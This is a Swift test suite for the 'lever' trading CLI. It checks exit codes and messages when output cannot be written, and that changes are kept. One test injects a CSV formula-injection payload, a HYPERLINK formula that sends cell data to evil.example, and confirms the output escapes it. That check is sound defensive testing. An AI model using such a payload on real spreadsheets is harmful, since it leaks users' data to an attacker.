import FoundationEssentials
import Glibc
import TestSupport
import Testing

/// Every command whose output goes to a full disk, to a closed stream, or to a reader who leaves.
@Suite struct CommandsOutputFailureTests {
  /// Commands that send nothing, and what each writes.
  static let reading = [
    "accounts", "list bingx", "show bingx BTC-USDT", "set bingx BTC-USDT 7 --dry-run",
    "set bingx BTC-USDT 9999 --yes", "journal", "journal check", "journal head",
    "journal reconcile --output json", "journal --follow --output csv", "themes", "--help",
    "help journal check", "set --help", "--version", "undo --dry-run", "prove $ID",
    "prove --check $PROOF", "simulate --seed 1", "nonsense --output json",
  ]

  /// What a shell said of a command's end.
  private func statuses(_ result: ProgramRunner.Result) -> [String: String] {
    var statuses: [String: String] = [:]
    for line in result.errorOutput.split(separator: "\n") where line.hasPrefix("status ") {
      let parts = line.dropFirst(7).split(separator: " ", maxSplits: 1)
      statuses[String(parts[1])] = String(parts[0])
    }
    return statuses
  }

  /// A desk with one change in its journal, and the lines that name it to a shell.
  private func desk() throws -> (CommandDesk, preparation: String) {
    let desk = try CommandDesk()
    let made = try desk.run("set", "bingx", "BTC-USDT", "8", "--yes", "--output", "json")
    let identifier = try #require(try made.document(ChangesDocument.self).changes.first?.id)
    let proof = try desk.run("prove", identifier, "--output", "json")
    let file = try desk.folder.write(proof.output, to: "proof.json")
    return (desk, "ID=\(identifier); PROOF=\(file)\n")
  }

  @Test(arguments: [
    ("> /dev/full", "No space left on device"), (">&-", "Bad file descriptor"),
  ])
  func `a command that sends nothing ends with 1 and the reason`(
    redirection: String, reason: String
  ) throws {
    let (desk, preparation) = try desk()
    for command in Self.reading {
      for form in command.contains("--output") ? [""] : ["", " --output json", " --output csv"] {
        let result = try desk.runShell("\(preparation)$LEVER \(command)\(form) \(redirection)")
        #expect(result.status == 1, "\(command)\(form): \(result.errorOutput)")
        #expect(
          result.errorOutput.contains("lever: the output cannot be written: \(reason)"),
          "\(command)\(form): \(result.errorOutput)")
      }
    }
    #expect(try desk.run("journal", "check").status == 0)
  }

  @Test(arguments: ["> /dev/full", ">&-"])
  func `a command that sends a change ends with 3, and the change is made and kept`(
    redirection: String
  ) throws {
    let (desk, _) = try desk()
    for (command, value) in [
      ("set bingx BTC-USDT 7 --yes", "7"), ("set bingx BTC-USDT 6 --yes --output json", "6"),
      ("undo --yes --output csv", "7"),
    ] {
      let result = try desk.runShell("$LEVER \(command) \(redirection)")
      #expect(result.status == 3, "\(command): \(result.errorOutput)")
      #expect(result.errorOutput.contains("lever: the output cannot be written"))
      #expect(result.errorOutput.contains("a change was sent"))
      // The venue's limit of readings a second counts for both clients.
      poll(nil, 0, 1100)
      #expect(
        try desk.independentReading("bingx", "BTC-USDT").output
          == "{\"long\": \"\(value)\", \"short\": \"\(value)\"}\n")
    }
    let check = try desk.run("journal", "check", "--output", "json")
    #expect(check.status == 0)
    let list = try desk.run("journal", "--output", "json").document(JournalDocument.self)
    #expect(list.changes.allSatisfy { $0.outcome == "applied" } && list.changes.count == 4)
  }

  @Test func `a reader who leaves is no failure, and stops no change`() throws {
    let (desk, preparation) = try desk()
    let commands = ["list", "journal", "themes", "--help", "set bingx BTC-USDT 7 --yes"]
    // The other end is closed before the command begins.
    let lines = commands.map { command in
      "{ sleep 0.2; $LEVER \(command); echo \"status $? \(command)\" >&2; } | exec true"
    }
    let result = try desk.runShell(preparation + lines.joined(separator: "\n"))
    for command in commands {
      #expect(statuses(result)[command] == "0", "\(command): \(result.errorOutput)")
    }
    #expect(!result.errorOutput.contains("cannot be written"))
    #expect(
      try desk.independentReading("bingx", "BTC-USDT").output
        == "{\"long\": \"7\", \"short\": \"7\"}\n")
  }

  @Test func `talk that cannot be written changes nothing`() throws {
    let (desk, _) = try desk()
    for redirection in ["2> /dev/full", "2>&-"] {
      let result = try desk.runShell("$LEVER journal \(redirection)")
      #expect(result.status == 0)
      #expect(result.output.contains("BTC-USDT"))
    }
  }

  @Test func `following ends when what comes cannot be written`() throws {
    let (desk, _) = try desk()
    let program = try RunningProgram(
      "/bin/sh",
      ["-c", "exec \"$LEVER\" journal --follow --since 1h > /dev/full"],
      environment: ProgramEnvironment.plain.merging(
        ["HOME": desk.folder.path, "LEVER": try ProgramLocation.executable(named: "lever")]) {
          $1
        })
    let result = try program.result()
    #expect(result.status == 1)
    #expect(result.errorOutput.contains("No space left on device"))
  }

  @Test func `a configuration that cannot be written whole is not written`() throws {
    let folder = try TemporaryFolder()
    let program = try ProgramLocation.executable(named: "lever")
    for place in ["/dev/full", folder.path, folder.path(of: "none/lever.toml")] {
      let result = try ProgramRunner.run(
        program, ["simulate", "--write-config", place],
        environment: ProgramEnvironment.plain.merging(["HOME": folder.path]) { $1 })
      #expect(result.status == 1, "\(place): \(result.errorOutput)")
      #expect(result.errorOutput.contains(place == "/dev/full" ? place : folder.path))
      #expect(result.output.isEmpty)
    }
  }

  @Test func `a venue's formula is none in a spreadsheet`() throws {
    let desk = try CommandDesk(faults: ["formula-text:CHANGE", "clock-skew=-900ms@ztdx"])
    let result = try desk.run("set", "bingx", "BTC-USDT", "7", "--yes", "--output", "csv")
    let formula = "=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"applied\"\")"
    #expect(result.output.contains(",\"'\(formula)\""))
    #expect(try desk.run("journal", "--output", "csv").output.contains(",\"'\(formula)\","))
    // Its own numbers stay numbers.
    let accounts = try desk.run("accounts", "--output", "csv").output
    #expect(accounts.contains(/ztdx,ztdx,connected,false,-[0-9]+,/), "\(accounts)")
  }
}
